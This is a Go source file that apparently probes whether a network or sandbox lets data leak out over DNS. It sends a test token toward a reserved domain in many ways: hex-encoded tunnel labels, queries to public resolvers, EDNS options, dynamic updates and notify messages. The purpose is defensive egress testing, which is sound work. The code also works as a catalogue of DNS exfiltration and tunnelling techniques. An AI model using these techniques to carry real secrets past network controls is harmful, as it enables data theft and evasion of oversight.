package leak

import (
	"context"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"time"

	"github.com/miekg/dns"
)

// outside is a domain nobody has (RFC 2606): no policy of ours allows it.
const outside = "leak.example.org"

// tunnel is a name that carries bytes in its labels, as tunnels over DNS do.
func (a Aim) tunnel(bytes int) string {
	text := hex.EncodeToString([]byte(strings.Repeat(a.Token+"/", 1+bytes/len(a.Token))))
	var b strings.Builder
	for len(text) > 0 && b.Len() < bytes {
		n := min(63, len(text))
		b.WriteString(text[:n] + ".")
		text = text[n:]
	}
	return b.String() + outside + "."
}

// Resolvers that a program may know by heart.
var publicResolvers = []string{"8.8.8.8:53", "1.1.1.1:53", "[2001:4860:4860::8888]:53", "[2606:4700:4700::1111]:53"}

// names are the ways that carry a byte in a question about a name.
func (a Aim) names() []way {
	noName := []Outcome{NoName}
	var list []way
	add := func(name, network, server, host string, kind uint16) {
		list = append(list, by("dns", name, fmt.Sprintf("%s %s? to %s over %s", short(host), dns.TypeToString[kind], server, network), noName,
			func(ctx context.Context, p *probe) seen { return ask(ctx, network, server, question(host, kind)) }))
	}
	gateway := netip.AddrPortFrom(a.Gateway[0], 53).String()
	for _, kind := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeMX, dns.TypeNULL, dns.TypeANY, dns.TypeHTTPS, dns.TypeSRV, dns.TypeNAPTR} {
		add("dns "+dns.TypeToString[kind]+" over udp", "udp", gateway, a.Token+"."+outside+".", kind)
	}
	for _, kind := range []uint16{dns.TypeA, dns.TypeTXT} {
		add("dns "+dns.TypeToString[kind]+" over tcp", "tcp", gateway, a.Token+"."+outside+".", kind)
	}
	for _, network := range []string{"udp", "tcp"} {
		add("dns tunnel, short labels, over "+network, network, gateway, a.tunnel(60), dns.TypeA)
		add("dns tunnel, 250 bytes of labels, over "+network, network, gateway, a.tunnel(210), dns.TypeTXT)
	}
	for _, server := range publicResolvers {
		add("dns at "+server, "udp", server, a.tunnel(60), dns.TypeA)
		add("dns at "+server+" over tcp", "tcp", server, a.tunnel(60), dns.TypeA)
	}
	add("dns reverse question", "udp", gateway, "4.3.2.1.in-addr.arpa.", dns.TypePTR)
	list = append(list, a.oddQuestions(gateway)...)
	list = append(list, by("dns", "the system's resolver", "getaddrinfo "+a.Token+"."+outside, noName, func(ctx context.Context, p *probe) seen {
		found, err := net.DefaultResolver.LookupHost(ctx, a.Token+"."+outside)
		if err != nil {
			return refused(err)
		}
		return open("%v", found)
	}))
	return list
}

// oddQuestions carry the byte elsewhere than in a plain question.
func (a Aim) oddQuestions(server string) []way {
	odd := func(name, tried string, m func() *dns.Msg) way {
		return by("dns", name, tried+" to "+server, []Outcome{NoName, Unreachable, Silent},
			func(ctx context.Context, p *probe) seen { return ask(ctx, "udp", server, m()) })
	}
	return []way{
		odd("dns option", "a question whose EDNS option has the byte", func() *dns.Msg {
			m := question(outside+".", dns.TypeA)
			m.SetEdns0(1232, false)
			m.IsEdns0().Option = append(m.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(a.Token)})
			return m
		}),
		odd("dns update", "an update (RFC 2136) that adds a TXT record", func() *dns.Msg {
			m := new(dns.Msg)
			m.SetUpdate(outside + ".")
			m.Insert([]dns.RR{&dns.TXT{Hdr: dns.RR_Header{Name: outside + ".", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{a.Token}}})
			return m
		}),
		odd("dns notify", "a notify (RFC 1996)", func() *dns.Msg { return new(dns.Msg).SetNotify(a.Token + "." + outside + ".") }),
		odd("dns response", "an answer that nobody asked for", func() *dns.Msg {
			m := question(a.Token+"."+outside+".", dns.TypeA)
			m.Response = true
			return m
		}),
		odd("two questions", "a message with two questions", func() *dns.Msg {
			m := question(outside+".", dns.TypeA)
			m.Question = append(m.Question, question(a.Token+"."+outside+".", dns.TypeA).Question...)
			return m
		}),
	}
}

func question(name string, kind uint16) *dns.Msg {
	m := new(dns.Msg).SetQuestion(name, kind)
	m.RecursionDesired = true
	return m
}

// ask sends a message and says what came back.
func ask(ctx context.Context, network, server string, m *dns.Msg) seen {
	packed, err := m.Pack()
	if err != nil {
		return open("cannot be built: %v", err)
	}
	var d net.Dialer
	c, err := d.DialContext(ctx, network, server)
	if err != nil {
		return refused(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	if network == "tcp" {
		packed = append(binary.BigEndian.AppendUint16(nil, uint16(len(packed))), packed...)
	}
	if _, err := c.Write(packed); err != nil {
		return datagramRefused(err)
	}
	buf := make([]byte, 4096)
	n, err := c.Read(buf)
	if err != nil {
		return datagramRefused(err)
	}
	answer := buf[:n]
	if network == "tcp" && n > 2 {
		answer = buf[2:n]
	}
	return judgeAnswer(answer)
}

// judgeAnswer says what a resolver answered. An answer without data tells
// nothing; one with data does.
func judgeAnswer(b []byte) seen {
	var m dns.Msg
	if err := m.Unpack(b); err != nil {
		return open("%d bytes that are no answer: %v", len(b), err)
	}
	code := dns.RcodeToString[m.Rcode]
	switch {
	case len(m.Answer) > 0:
		return open("%s with %d records: %v", code, len(m.Answer), m.Answer[0])
	case m.Rcode == dns.RcodeSuccess:
		return open("%s: the name is said to be there", code)
	}
	return seen{outcome: NoName, words: code}
}

// short is a name as it is shown.
func short(name string) string {
	if len(name) > 48 {
		return fmt.Sprintf("%s… (%d bytes)", name[:32], len(name))
	}
	return name
}
